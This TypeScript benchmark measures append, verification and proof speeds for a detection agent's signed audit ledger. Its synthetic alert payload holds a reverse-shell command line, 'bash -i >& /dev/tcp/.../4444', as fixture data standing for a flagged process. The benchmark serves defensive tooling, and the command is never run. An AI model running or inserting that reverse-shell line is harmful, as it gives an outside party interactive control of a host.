// The audit ledger (issue #3): appends per second with checkpoints on, and the time to verify
// 1,000,000 entries. Target: over 50,000 appends/s (DaemonEye's published target is 1,000 records/s).
// Appends run as the agent runs them: inside its transactions of BENCH_LEDGER_BATCH alerts, with
// checkpointIfDue() after every append (the worst case: the agent may call it once per batch).
// Also printed: one append per transaction, a writer's first checkpoint after a restart (it rebuilds
// the tree edge from the stored leaves), and proofs at 1,000,000 entries.
import { mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ledger } from '../src/ledger/ledger.ts';
import { openLedgerKey } from '../src/ledger/ledger-key.ts';
import { ledgerConsistencyProof, ledgerInclusionProof } from '../src/ledger/ledger-proofs.ts';
import { verifyLedger } from '../src/ledger/verify-ledger.ts';
import { openStoreForWriting, storePath } from '../src/store/open-store.ts';
import { fmt } from './bench-utils.ts';

const APPENDS = Number(process.env['BENCH_LEDGER_APPENDS'] ?? 200_000);
const BATCH = Number(process.env['BENCH_LEDGER_BATCH'] ?? 1000);
const SINGLE = Number(process.env['BENCH_LEDGER_SINGLE'] ?? 20_000);
const VERIFY = Number(process.env['BENCH_LEDGER_VERIFY'] ?? 1_000_000);

/** An alert entry as the recorder would write it: about 450 bytes of canonical JSON. */
function alertPayload(i: number): Record<string, unknown> {
  return {
    alert_id: i + 1, alert_uuid: `6f1c2a9e-5b7d-4e11-9a0c-${String(i).padStart(12, '0')}`, rule_id: 'DE-LNX-0007', rule_version: 2,
    severity: i % 10 === 0 ? 'critical' : 'high', attack_ids: ['T1059.004', 'T1071'], host: 'web-01.example.com',
    pid: 10_000 + (i % 30_000), process_name: 'bash', executable_path: '/usr/bin/bash',
    command_line: `bash -i >& /dev/tcp/10.0.${i % 256}.1/4444 0>&1`, summary: 'interactive shell with its stdio on a TCP socket',
    first_seen: '2026-11-28T09:00:00.000Z',
  };
}

const dir = mkdtempSync(join(tmpdir(), 'de-bench-ledger-'));
try {
  const { signer } = openLedgerKey(dir);
  console.log(`ledger: ${APPENDS.toLocaleString('en')} appends in transactions of ${BATCH}, checkpoints every 1000 entries`);

  // 1. Batched appends, as the agent records alerts.
  {
    const db = openStoreForWriting(storePath(dir));
    const ledger = new Ledger(db, { signer });
    const batch = db.transaction((from: number, to: number) => {
      for (let i = from; i < to; i++) {
        ledger.append('alert', alertPayload(i));
        ledger.checkpointIfDue();
      }
    });
    const t0 = performance.now();
    for (let i = 0; i < APPENDS; i += BATCH) batch(i, Math.min(i + BATCH, APPENDS));
    const s = (performance.now() - t0) / 1000;
    const cps = db.prepare('SELECT count(*) FROM ledger_checkpoints').pluck().get() as number;
    console.log(`  batched appends:        ${fmt(APPENDS / s, 0)} entries/s  (${fmt(s, 2)} s, ${cps} checkpoints signed)`);

    // 2. One append per transaction (each commits on its own: WAL, synchronous=NORMAL).
    const t1 = performance.now();
    for (let i = 0; i < SINGLE; i++) {
      ledger.append('alert', alertPayload(APPENDS + i));
      ledger.checkpointIfDue();
    }
    const s1 = (performance.now() - t1) / 1000;
    console.log(`  one per transaction:    ${fmt(SINGLE / s1, 0)} entries/s  (${SINGLE.toLocaleString('en')} in ${fmt(s1, 2)} s)`);
    db.close();
  }
  rmSync(storePath(dir), { force: true });
  rmSync(storePath(dir) + '-wal', { force: true });
  rmSync(storePath(dir) + '-shm', { force: true });

  // 3. Verify 1,000,000 entries.
  {
    const db = openStoreForWriting(storePath(dir));
    const ledger = new Ledger(db, { signer });
    const fill = db.transaction((from: number, to: number) => {
      for (let i = from; i < to; i++) {
        ledger.append('alert', alertPayload(i), 1_795_000_000_000 + i);
        ledger.checkpointIfDue(1_795_000_000_000 + i);
      }
    });
    const t0 = performance.now();
    for (let i = 0; i < VERIFY; i += 10_000) fill(i, Math.min(i + 10_000, VERIFY));
    ledger.checkpoint(1_795_000_000_000 + VERIFY);
    const fillS = (performance.now() - t0) / 1000;
    db.pragma('wal_checkpoint(TRUNCATE)');
    const mb = statSync(storePath(dir)).size / 1e6;
    console.log(`ledger of ${VERIFY.toLocaleString('en')} entries: written in ${fmt(fillS, 1)} s (${fmt(VERIFY / fillS, 0)} entries/s), ${fmt(mb, 0)} MB`);

    const report = verifyLedger(db, signer.publicKey);
    if (!report.ok) console.log(`  (verify reported ${report.first?.kind} at ${report.first?.seq})`);
    console.log(`  verify:                 ${fmt(report.seconds, 2)} s  (${fmt(report.entries / report.seconds, 0)} entries/s, ${report.checkpointsVerified} checkpoints)`);

    const restarted = new Ledger(db, { signer });
    restarted.append('monitor', { event: 'agent_started' });
    const t1 = performance.now();
    restarted.checkpoint();
    console.log(`  first checkpoint after a restart: ${fmt(performance.now() - t1, 0)} ms (rebuilds the tree edge)`);

    const t2 = performance.now();
    ledgerInclusionProof(db, 123_457 % VERIFY, VERIFY);
    console.log(`  inclusion proof:        ${fmt(performance.now() - t2, 0)} ms`);
    const t3 = performance.now();
    ledgerConsistencyProof(db, Math.floor(VERIFY / 3), VERIFY);
    console.log(`  consistency proof:      ${fmt(performance.now() - t3, 0)} ms`);
    db.close();
  }
} finally {
  rmSync(dir, { recursive: true, force: true });
}
